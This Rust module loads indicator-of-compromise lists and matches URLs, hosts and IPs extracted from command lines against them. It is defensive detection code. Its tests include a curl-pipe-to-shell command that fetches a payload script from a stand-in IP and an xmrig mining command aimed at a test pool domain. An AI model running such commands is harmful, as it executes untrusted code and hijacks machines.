//! Indicators of compromise: plain-text lists (`policies/ioc/*.txt`, extended by the same file names
//! in `$RUNWARDEN_POLICIES/ioc`) of malicious file hashes, domains, URL prefixes and addresses, and the
//! extraction of URLs and hosts from command lines and scripts to match them against.
#![forbid(unsafe_code)]

use std::collections::{HashMap, HashSet};
use std::path::Path;
use std::sync::OnceLock;

use regex::Regex;

pub const DEFAULT_SHA256: &str = include_str!("../../../policies/ioc/sha256.txt");
pub const DEFAULT_DOMAINS: &str = include_str!("../../../policies/ioc/domains.txt");
pub const DEFAULT_URLS: &str = include_str!("../../../policies/ioc/urls.txt");
pub const DEFAULT_IPS: &str = include_str!("../../../policies/ioc/ips.txt");

#[derive(Debug, Default, Clone)]
pub struct Iocs {
    /// sha256 -> family
    pub hashes: HashMap<String, String>,
    pub domains: HashSet<String>,
    pub url_prefixes: Vec<String>,
    pub ips: HashSet<String>,
}

fn entries(text: &str) -> impl Iterator<Item = &str> {
    text.lines().map(|l| l.split('#').next().unwrap_or("").trim()).filter(|l| !l.is_empty())
}

impl Iocs {
    /// Adds one set of lists. Malformed hash lines are errors naming the line.
    pub fn add(
        &mut self,
        name: &str,
        sha256: &str,
        domains: &str,
        urls: &str,
        ips: &str,
    ) -> Result<(), String> {
        for (i, line) in sha256.lines().enumerate() {
            let line = line.split('#').next().unwrap_or("").trim();
            if line.is_empty() {
                continue;
            }
            let mut parts = line.split_whitespace();
            let hash = parts.next().unwrap_or("").to_ascii_lowercase();
            if hash.len() != 64 || !hash.chars().all(|c| c.is_ascii_hexdigit()) {
                return Err(format!("{name}/sha256.txt:{}: not a sha256: {line}", i + 1));
            }
            let family = parts.next().unwrap_or("ioc").to_string();
            self.hashes.insert(hash, family);
        }
        self.domains.extend(entries(domains).map(|d| d.trim_start_matches("*.").to_ascii_lowercase()));
        self.url_prefixes.extend(entries(urls).map(str::to_string));
        self.ips.extend(entries(ips).map(str::to_string));
        Ok(())
    }

    /// The defaults plus the lists in `dir` (missing files there are fine).
    pub fn load(dir: Option<&Path>) -> Result<Iocs, String> {
        let mut iocs = Iocs::default();
        iocs.add("policies/ioc", DEFAULT_SHA256, DEFAULT_DOMAINS, DEFAULT_URLS, DEFAULT_IPS)?;
        if let Some(dir) = dir {
            let read = |f: &str| std::fs::read_to_string(dir.join(f)).unwrap_or_default();
            iocs.add(
                &dir.display().to_string(),
                &read("sha256.txt"),
                &read("domains.txt"),
                &read("urls.txt"),
                &read("ips.txt"),
            )?;
        }
        Ok(iocs)
    }

    /// Does `host` (or a parent domain of it) appear in the domain list?
    pub fn domain_listed(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        let mut h = host.as_str();
        loop {
            if self.domains.contains(h) {
                return true;
            }
            match h.split_once('.') {
                Some((_, rest)) if rest.contains('.') || !rest.is_empty() => h = rest,
                _ => return false,
            }
        }
    }

    /// The indicators in a piece of text: matching URLs (by prefix or host) and listed addresses.
    pub fn matches_in(&self, text: &str) -> Vec<String> {
        let mut out = Vec::new();
        for url in urls_in(text) {
            let host = host_of(&url);
            let listed = self.url_prefixes.iter().any(|p| url.starts_with(p.as_str()))
                || host.is_some_and(|h| self.domain_listed(h) || self.ips.contains(h));
            if listed && !out.contains(&url) {
                out.push(url);
            }
        }
        out
    }
}

/// URLs in free text (command lines, scripts).
pub fn urls_in(text: &str) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r#"(?i)\b(?:https?|ftp|tcp|udp|stratum\+(?:tcp|ssl|tls))://[^\s'"<>|;`]+"#)
            .expect("url pattern")
    });
    re.find_iter(text).map(|m| m.as_str().trim_end_matches([')', ',', '.']).to_string()).collect()
}

/// The host part of a URL (without credentials and port).
pub fn host_of(url: &str) -> Option<&str> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let hostport = authority.rsplit_once('@').map(|(_, h)| h).unwrap_or(authority);
    if let Some(v6) = hostport.strip_prefix('[') {
        return v6.split(']').next();
    }
    Some(hostport.split(':').next().unwrap_or(hostport))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_load_and_match() {
        let i = Iocs::load(None).unwrap();
        assert_eq!(
            i.hashes
                .get("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")
                .map(String::as_str),
            Some("eicar-test")
        );
        assert!(i.domain_listed("pool.miner-test.invalid"));
        assert!(i.domain_listed("eu.pool.miner-test.invalid"), "subdomains match");
        assert!(!i.domain_listed("miner-test.invalid"), "a parent of a listed domain does not");
        let found = i.matches_in("curl -s http://203.0.113.66/payload.sh | sh; wget https://example.com/x");
        assert_eq!(found, vec!["http://203.0.113.66/payload.sh"]);
        let found = i.matches_in("xmrig -o stratum+tcp://eu.pool.miner-test.invalid:3333 -u w");
        assert_eq!(found, vec!["stratum+tcp://eu.pool.miner-test.invalid:3333"]);
        assert!(i.matches_in("curl http://localhost:8080/healthz").is_empty());
    }

    #[test]
    fn url_parts() {
        assert_eq!(urls_in("a 'http://x.example/a?b=1' b"), vec!["http://x.example/a?b=1"]);
        assert_eq!(host_of("http://u:p@Host.example:8080/x"), Some("Host.example"));
        assert_eq!(host_of("https://[2001:db8::1]:443/"), Some("2001:db8::1"));
    }

    #[test]
    fn malformed_hash_lines_are_errors_naming_the_line() {
        let mut i = Iocs::default();
        let e = i.add("/etc/ioc", "# c\nnothex family\n", "", "", "").unwrap_err();
        assert_eq!(e, "/etc/ioc/sha256.txt:2: not a sha256: nothex family");
    }
}
